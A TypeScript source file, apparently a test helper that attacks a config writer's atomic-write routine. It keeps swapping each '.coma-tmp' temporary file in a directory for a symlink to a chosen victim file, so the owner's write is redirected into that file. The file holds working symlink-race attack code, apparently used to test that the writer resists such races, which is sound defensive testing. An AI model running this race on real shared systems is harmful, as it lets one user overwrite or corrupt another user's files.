/**
 * Somebody who may write in the directory of a config, and wants its owner to write into another file.
 *
 * Run by itself: `attack.ts DIRECTORY VICTIM` puts a link to the victim in the place of each temporary file that appears
 * in the directory, until its stdin ends. It says `ready`, and at the end how often it did.
 */
import { lstatSync, readdirSync, renameSync, rmSync, symlinkSync } from "node:fs"
import { join } from "node:path"

const [directory = "", victim = ""] = process.argv.slice(2)
let swapped = 0
let left = true
process.stdin.on("end", () => {
  left = false
})
process.stdin.resume()
process.stdout.write("ready\n")

const swap = (name: string) => {
  const path = join(directory, name)
  try {
    if (lstatSync(path).isSymbolicLink()) return
    renameSync(path, join(directory, `stolen-${swapped}`))
    symlinkSync(victim, path)
    swapped++
    rmSync(join(directory, `stolen-${swapped - 1}`), { force: true })
  } catch {
    // The writer was faster.
  }
}

const look = () => {
  // Faster than any notification.
  for (let i = 0; i < 50; i++) for (const name of readdirSync(directory)) if (name.endsWith(".coma-tmp")) swap(name)
  if (left) setImmediate(look)
  else process.stdout.write(`${swapped}\n`)
}
look()
